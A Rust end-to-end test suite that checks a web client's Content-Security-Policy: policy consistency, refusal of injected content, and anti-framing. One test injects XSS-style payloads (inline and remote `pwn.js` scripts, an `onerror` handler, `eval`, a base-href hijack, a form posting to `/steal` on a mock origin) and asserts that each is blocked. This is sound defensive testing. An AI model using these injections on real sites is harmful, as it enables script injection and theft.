//! The client's Content-Security-Policy: one policy in both pages and in
//! `_headers`; in the browser, it refuses what a slip of the sanitizer
//! would let into the page, and no other origin may frame the client.

use std::path::Path;

use e2e::{StaticServer, repo_root};
use serde_json::json;

/// The `content` of the page's CSP `<meta>`.
fn meta_policy(page: &Path) -> anyhow::Result<String> {
    let html = std::fs::read_to_string(page)?;
    let tag = html
        .split('<')
        .find(|tag| tag.starts_with("meta http-equiv=\"Content-Security-Policy\""))
        .ok_or_else(|| anyhow::anyhow!("{} has no CSP <meta>", page.display()))?;
    let content = tag
        .split_once("content=\"")
        .and_then(|(_, rest)| rest.split_once('"'))
        .map(|(content, _)| content.to_string())
        .ok_or_else(|| anyhow::anyhow!("{}: the CSP <meta> has no content", page.display()))?;
    Ok(content)
}

/// The policy `_headers` gives every path.
fn header_policy(file: &Path) -> anyhow::Result<String> {
    let text = std::fs::read_to_string(file)?;
    text.lines()
        .skip_while(|line| line.trim() != "/*")
        .find_map(|line| line.trim().strip_prefix("Content-Security-Policy:"))
        .map(|policy| policy.trim().to_string())
        .ok_or_else(|| anyhow::anyhow!("{} gives /* no CSP", file.display()))
}

/// Every `<script ...>` tag of the page that has no `src`.
fn inline_scripts(page: &Path) -> anyhow::Result<Vec<String>> {
    let html = std::fs::read_to_string(page)?;
    Ok(html
        .split('<')
        .filter(|tag| tag.starts_with("script"))
        .filter(|tag| !tag.split('>').next().unwrap_or_default().contains(" src="))
        .map(|tag| tag.chars().take(80).collect())
        .collect())
}

#[test]
fn both_pages_and_the_headers_file_carry_one_strict_policy() -> anyhow::Result<()> {
    let root = repo_root();
    let release = meta_policy(&root.join("app/release.html"))?;
    let development = meta_policy(&root.join("app/index.html"))?;
    assert_eq!(release, development, "release.html and index.html");
    assert_eq!(
        header_policy(&root.join("public/_headers"))?,
        format!("{release}; frame-ancestors 'none'"),
        "public/_headers: the pages' policy and frame-ancestors"
    );
    let directives: Vec<&str> = release.split(';').map(str::trim).collect();
    for wanted in [
        "default-src 'self'",
        "script-src 'self' 'wasm-unsafe-eval' 'report-sample'",
        "style-src 'self' 'report-sample'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
        "worker-src 'self'",
        "manifest-src 'self'",
    ] {
        assert!(directives.contains(&wanted), "{wanted} in {release}");
    }
    let connect = directives
        .iter()
        .find(|directive| directive.starts_with("connect-src "))
        .unwrap_or(&"");
    for source in ["https:", "wss:", "http://127.0.0.1:*", "ws://localhost:*"] {
        assert!(connect.contains(source), "{source} in {connect}");
    }
    assert!(
        !release.contains("unsafe-inline") && !release.contains("'unsafe-eval'"),
        "{release}"
    );
    // Browsers drop a source naming an IPv6 address, with a warning.
    assert!(!release.contains('['), "an IPv6 source in {release}");
    for page in ["app/release.html", "app/index.html"] {
        assert_eq!(
            inline_scripts(&root.join(page))?,
            Vec::<String>::new(),
            "{page}"
        );
    }
    // What build-client made, when it has run: the tests below use it.
    let dist = root.join("dist");
    if dist.join("index.html").is_file() {
        assert_eq!(
            meta_policy(&dist.join("index.html"))?,
            release,
            "dist/index.html"
        );
        assert_eq!(
            inline_scripts(&dist.join("index.html"))?,
            Vec::<String>::new()
        );
        assert_eq!(
            header_policy(&dist.join("_headers"))?,
            format!("{release}; frame-ancestors 'none'"),
            "dist/_headers"
        );
    }
    Ok(())
}

/// Puts into the client's page, past the sanitizer, what a slip of it
/// would let through: each must be refused, and nothing may run.
const SLIPS: &str = r#"
const remote = arguments[0];
const add = html => {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  document.body.append(holder);
};
const inline = document.createElement('script');
inline.textContent = "window.__pwned = 'inline script'";
document.body.append(inline);
const far = document.createElement('script');
far.src = remote + '/pwn.js';
document.body.append(far);
add('<img src="missing.png" onerror="window.__pwned = \'handler\'">');
// WebDriver's own script may eval; code the page runs later may not.
window.__evaluated = 'not yet';
setTimeout(() => {
  try { window.__evaluated = eval("window.__pwned = 'eval'"); } catch (refused) { window.__evaluated = 'refused'; }
});
add('<p style="position:fixed;inset:0">cover</p>');
add('<object data="' + remote + '/pwn.swf"></object>');
add('<base href="' + remote + '/">');
const form = document.createElement('form');
form.action = remote + '/steal';
form.method = 'post';
document.body.append(form);
form.submit();
return true;"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_policy_refuses_what_a_sanitizer_slip_would_let_through() -> anyhow::Result<()> {
    let (mock, web, browser) = e2e::client_with_mock().await?;
    browser.client.goto(&web.url("/app/#/")).await?;
    browser.texts("#server", 1).await?;
    browser
        .client
        .execute(SLIPS, vec![json!(mock.origin())])
        .await?;
    browser
        .until(
            "the eval to be tried",
            "return window.__evaluated !== 'not yet'",
        )
        .await?;
    assert_eq!(
        browser.eval("return window.__evaluated").await?,
        json!("refused"),
        "eval ran"
    );
    browser
        .until(
            "a violation for each slip",
            "return window.__cspViolations.length >= 8",
        )
        .await?;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(
        browser.eval("return window.__pwned ?? null").await?,
        json!(null),
        "a slip ran"
    );
    assert_eq!(
        browser
            .eval("return [location.pathname, document.baseURI === location.href]")
            .await?,
        json!(["/app/", true]),
        "the page stayed, with its own base"
    );
    // Expected here: taken, so that closing the browser does not fail.
    let refused = browser.take_csp_violations().await?;
    // The page's <meta> and the header each refuse on their own.
    let by = |header: bool| {
        let mut directives: Vec<&str> = refused
            .iter()
            .filter(|violation| violation.policy.contains("frame-ancestors") == header)
            .map(|violation| violation.directive.as_str())
            .collect();
        directives.sort_unstable();
        directives
    };
    let expected = [
        "base-uri",
        "form-action",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "script-src-elem",
        "style-src-attr",
    ];
    assert_eq!(by(false), expected, "refused by the <meta>: {refused:#?}");
    assert_eq!(by(true), expected, "refused by the header: {refused:#?}");
    let far = format!("{}/pwn.js", mock.origin());
    let refused_as = |directive: &str, blocked: &str, sample: &str| {
        refused.iter().any(|violation| {
            violation.directive == directive
                && violation.blocked == blocked
                && violation.sample.starts_with(sample)
        })
    };
    assert!(
        refused_as("script-src-elem", &far, ""),
        "the script from another origin: {refused:#?}"
    );
    assert!(
        refused_as(
            "script-src-elem",
            "inline",
            "window.__pwned = 'inline script'"
        ),
        "the inline script, named by its sample: {refused:#?}"
    );
    assert!(
        refused_as("style-src-attr", "inline", "position:fixed"),
        "the style attribute, named by its sample: {refused:#?}"
    );
    browser.close().await
}

/// A page that frames `urls`, each in an iframe.
fn framing_page(urls: &[String]) -> String {
    let frames: String = urls
        .iter()
        .map(|url| format!("<iframe src=\"{url}\"></iframe>"))
        .collect();
    format!("<!doctype html><title>framing</title>{frames}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_page_of_another_origin_may_frame_the_client() -> anyhow::Result<()> {
    let (_mock, _web, browser) = e2e::client_with_mock().await?;
    // The client, and beside it on the same host a page with no policy.
    let host_root = tempfile::tempdir()?;
    std::fs::write(
        host_root.path().join("plain.html"),
        "<!doctype html><p>plain",
    )?;
    let client = StaticServer::start(
        host_root.path().to_path_buf(),
        &[("/app", repo_root().join("dist"))],
    )
    .await?;
    let served =
        e2e::http::send_any("GET", &client.url("/app/"), None, e2e::http::Body::Empty).await?;
    let policy = served.header("content-security-policy").unwrap_or_default();
    assert!(policy.ends_with("; frame-ancestors 'none'"), "{policy:?}");
    // Another origin (another port) frames both.
    let elsewhere = tempfile::tempdir()?;
    let (app, plain) = (client.url("/app/"), client.url("/plain.html"));
    std::fs::write(
        elsewhere.path().join("index.html"),
        framing_page(&[app.clone(), plain.clone()]),
    )?;
    let framer = StaticServer::start(elsewhere.path().to_path_buf(), &[]).await?;
    browser.client.goto(&framer.url("/")).await?;
    browser
        .until(
            "both frames to load",
            "return document.readyState === 'complete'",
        )
        .await?;
    let tree = browser.cdp("Page.getFrameTree", json!({})).await?;
    let frames: Vec<(String, String)> = tree["frameTree"]["childFrames"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|child| {
            let frame = &child["frame"];
            let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_string();
            (text(&frame["url"]), text(&frame["unreachableUrl"]))
        })
        .collect();
    assert_eq!(frames.len(), 2, "{tree}");
    assert_eq!(
        frames[1],
        (plain, String::new()),
        "a page without the policy loads in the frame"
    );
    assert_eq!(
        frames[0].1, app,
        "the client is refused in the frame: {frames:?}"
    );
    // The refusal is the one expected; nothing else may be refused.
    let refused = browser.take_csp_violations().await?;
    assert!(
        refused
            .iter()
            .all(|violation| violation.directive == "frame-ancestors"),
        "{refused:#?}"
    );
    browser.close().await
}
